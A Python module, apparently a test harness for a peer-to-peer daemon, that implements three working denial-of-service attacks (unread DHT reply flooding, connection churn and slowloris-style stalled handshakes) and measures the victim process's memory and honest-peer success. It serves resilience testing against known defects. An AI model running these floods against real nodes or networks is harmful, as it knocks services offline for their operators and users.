"""Volume attacks on the transport of a real daemon (issue 16, defects 2-4):

- :func:`no_read_replies`: connections that send DHT requests on many streams and never read the
  replies (the victim encodes and buffers them);
- :func:`connection_churn`: thousands of short-lived connections (memory left per connection);
- :func:`slowloris`: sockets that send ``/noise`` and go silent, holding handshake slots.

Each returns a dict of what happened; the victim's RSS is read from /proc by pid.
"""

from __future__ import annotations

import os
import time

import trio

from lattice.dht import protocol as kad
from lattice.dht import records
from lattice.identity import KeyPair

from .rawpeer import RawPeer, delimited

KAD = "/lattice/kad/1.0.0"  # the default swarm profile's DHT protocol id


def rss_mib(pid: int) -> float:
    """Resident set size of a process (MiB), from /proc."""
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for pid {pid}")


class RSSWatch:
    """Samples a process's RSS in the background; ``peak`` is the highest seen."""

    def __init__(self, pid: int, interval: float = 0.05) -> None:
        self.pid = pid
        self.interval = interval
        self.peak = 0.0
        self.start = rss_mib(pid)

    async def run(self) -> None:
        while True:
            try:
                self.peak = max(self.peak, rss_mib(self.pid))
            except (OSError, RuntimeError):
                return  # the process is gone
            await trio.sleep(self.interval)


async def store_big_records(target: str, keypair: KeyPair, key: bytes, count: int, size: int) -> None:
    """Store ``count`` records of ``size`` bytes under ``key`` (distinct subkeys), honestly: so that a
    GET_VALUE of ``key`` has a large reply."""
    from lattice.transport import HostConfig, open_host

    async with open_host(keypair, HostConfig()) as host:
        conn = await host.connect(target)
        for i in range(count):
            rec = records.create(keypair, key, os.urandom(size), time.time() + 3600, subkey=b"s%d" % i)
            msg = kad.Message(kad.PUT_VALUE, key, key, rec.encode())
            stream = await host.new_stream(conn, [KAD])
            await stream.write(delimited(kad.encode(msg)))
            from lattice.transport.framing import read_delimited

            await read_delimited(stream, kad.MAX_MESSAGE)
            await stream.close()


async def no_read_replies(
    target: str,
    connections: int = 4,
    streams: int = 400,
    key: bytes = b"/attack/big",
    hold: float = 5.0,
    victim_pid: int | None = None,
) -> dict:
    """Open ``connections`` x ``streams`` DHT streams, each asking GET_VALUE(``key``), and never read
    the replies; hold for ``hold`` seconds. Reports the victim's peak RSS if ``victim_pid``."""
    watch = RSSWatch(victim_pid) if victim_pid else None
    peers = [RawPeer() for _ in range(connections)]
    request = delimited(kad.encode(kad.Message(kad.GET_VALUE, key)))
    sent = refused = 0
    started = time.monotonic()
    async with trio.open_nursery() as nursery:
        if watch is not None:
            nursery.start_soon(watch.run)
        for peer in peers:
            try:
                await peer.connect(target)
            except (OSError, Exception):
                refused += 1
                continue
            for _ in range(streams):
                try:
                    with trio.fail_after(5):
                        await peer.open_stream(KAD, request)
                    sent += 1
                except (trio.TooSlowError, OSError, Exception):
                    break  # the victim stopped reading us: good
        await trio.sleep(hold)
        nursery.cancel_scope.cancel()
    for peer in peers:
        await peer.aclose()
    out = {
        "requests_sent": sent,
        "connections_refused": refused,
        "seconds": round(time.monotonic() - started, 2),
    }
    if watch is not None:
        out.update(victim_rss_start_mib=round(watch.start, 1), victim_rss_peak_mib=round(watch.peak, 1))
    return out


async def connection_churn(
    target: str,
    count: int = 2000,
    parallel: int = 16,
    victim_pid: int | None = None,
    sources: list[str] | None = None,
) -> dict:
    """Open and close ``count`` connections (full handshake each), from ``sources`` in turn if given
    (else from 127.0.0.1); RSS before and after. Refused connections count as failed."""
    before = rss_mib(victim_pid) if victim_pid else None
    done = failed = 0
    limiter = trio.CapacityLimiter(parallel)

    async def one(i: int) -> None:
        nonlocal done, failed
        async with limiter:
            peer = RawPeer()
            try:
                with trio.fail_after(10):
                    await peer.connect(target, local_address=sources[i % len(sources)] if sources else None)
                done += 1
            except Exception:
                failed += 1
            finally:
                await peer.aclose()

    async with trio.open_nursery() as nursery:
        for i in range(count):
            nursery.start_soon(one, i)
    out: dict = {"connections": done, "failed": failed}
    if victim_pid:
        await trio.sleep(1.0)  # let the victim notice the closes
        out.update(
            victim_rss_before_mib=round(before or 0, 1), victim_rss_after_mib=round(rss_mib(victim_pid), 1)
        )
    return out


async def slowloris(
    target: str,
    sources: list[str],
    per_source: int = 4,
    hold: float = 10.0,
    honest_every: float = 0.25,
    honest_from: str | None = None,
) -> dict:
    """Hold ``per_source`` silent handshakes (``/noise``, then nothing) from each address of
    ``sources`` for ``hold`` seconds, re-opening the ones the victim drops; meanwhile an honest peer
    (from ``honest_from``) opens a new connection every ``honest_every`` seconds. Reports how many
    honest connections completed their handshake within 5 s."""
    stalled = honest_ok = honest_failed = reopened = 0

    async def stall(source: str) -> None:
        nonlocal stalled, reopened
        first = True
        while True:
            peer = RawPeer()
            try:
                await peer.stall_handshake(target, local_address=source)
                stalled += first
                reopened += not first
                first = False
                await peer.tcp.receive_some(1024)  # returns once the victim drops us (or sends)
                while await peer.tcp.receive_some(1024):
                    pass
            except (OSError, trio.BrokenResourceError, trio.ClosedResourceError):
                await trio.sleep(0.05)
            finally:
                await peer.aclose()

    async def honest() -> None:
        nonlocal honest_ok, honest_failed
        while True:
            peer = RawPeer()
            try:
                with trio.fail_after(5):
                    await peer.connect(target, local_address=honest_from)
                honest_ok += 1
            except Exception:
                honest_failed += 1
            finally:
                await peer.aclose()
            await trio.sleep(honest_every)

    async with trio.open_nursery() as nursery:
        for source in sources:
            for _ in range(per_source):
                nursery.start_soon(stall, source)
        await trio.sleep(1.0)  # the slots are taken before the honest peer arrives
        nursery.start_soon(honest)
        await trio.sleep(hold)
        nursery.cancel_scope.cancel()
    total = honest_ok + honest_failed
    return {
        "stalled_sockets": stalled,
        "reopened": reopened,
        "honest_new_connections": total,
        "honest_success": round(honest_ok / total, 3) if total else None,
    }
